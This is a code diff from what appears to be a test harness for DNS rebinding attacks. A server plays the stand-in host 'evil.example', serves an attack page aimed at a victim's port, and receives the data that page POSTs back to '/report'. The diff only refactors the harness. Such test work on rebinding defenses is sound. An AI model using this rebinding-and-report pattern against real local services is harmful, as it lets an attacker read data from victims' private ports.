@@ -49,13 +49,12 @@ await fetch('/report', { method: 'POST', body: JSON.stringify(seen) })
 
 /** `evil.example` before and after its address has changed: the page itself, then the port of the victim. */
 async function visit(place: string, target: number): Promise<Record<string, string>> {
-  let report = (_: Record<string, string>): void => {}
-  const reported = new Promise<Record<string, string>>(resolve => (report = resolve))
+  const { promise: reported, resolve: report } = Promise.withResolvers<Record<string, string>>()
   const server = createServer(socket => {
     socket.on('error', () => socket.destroy())
     socket.once('data', first => {
       const head = first.toString('latin1')
-      if (/^GET \/ /.test(head)) {
+      if (head.startsWith('GET / ')) {
         const body = attack(target)
         socket.end(
           `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
@@ -65,7 +64,7 @@ async function visit(place: string, target: number): Promise<Record<string, stri
         const look = (): void => {
           const body = all.split('\r\n\r\n')[1] ?? ''
           const length = Number(/content-length: (\d+)/i.exec(all)?.[1])
-          if (Buffer.byteLength(body, 'latin1') < length) return
+          if (body.length < length) return
           socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n')
           report(JSON.parse(body))
         }
